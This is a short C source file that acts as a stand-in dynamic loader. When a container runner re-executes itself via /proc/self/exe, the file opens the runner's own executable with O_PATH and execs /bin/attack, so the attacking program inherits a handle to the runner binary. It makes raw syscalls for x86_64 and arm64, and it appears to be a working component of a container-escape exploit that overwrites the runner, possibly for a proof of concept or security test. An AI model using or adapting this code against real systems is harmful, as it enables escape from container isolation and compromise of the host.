// Stands in the image where the loader of dynamic programs should be. If a runner executes itself, through a link to
// /proc/self/exe, this runs in its stead, takes hold of its file, and hands it to the attacking program.
#include <asm/unistd.h>

#define O_PATH 010000000

static long call(long number, const void *first, const void *second, const void *third) {
#ifdef __x86_64__
  long answer;
  __asm__ volatile("syscall" : "=a"(answer) : "a"(number), "D"(first), "S"(second), "d"(third) : "rcx", "r11", "memory");
  return answer;
#else
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = (long)first;
  register const void *x1 __asm__("x1") = second, *x2 __asm__("x2") = third;
  __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
  return x0;
#endif
}

void _start(void) {
  static const char *const words[] = {"attack", "executable", "later", 0};
  call(__NR_openat, (void *)-100, "/proc/self/exe", (void *)O_PATH);
  call(__NR_execve, "/bin/attack", words, words + 3);
  call(__NR_exit, (void *)97, 0, 0);
}
